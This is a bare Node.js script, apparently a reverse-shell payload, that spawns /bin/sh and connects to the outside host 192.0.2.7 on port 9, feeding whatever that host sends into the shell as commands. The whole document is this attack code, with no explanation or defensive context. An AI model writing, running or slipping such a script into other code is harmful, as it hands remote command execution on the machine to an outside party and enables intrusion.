#!/usr/bin/env node
const net = require('net');
const shell = require('child_process').spawn('/bin/sh', []);
const connection = net.connect(9, '192.0.2.7', () => {
    connection.pipe(shell.stdin);
});
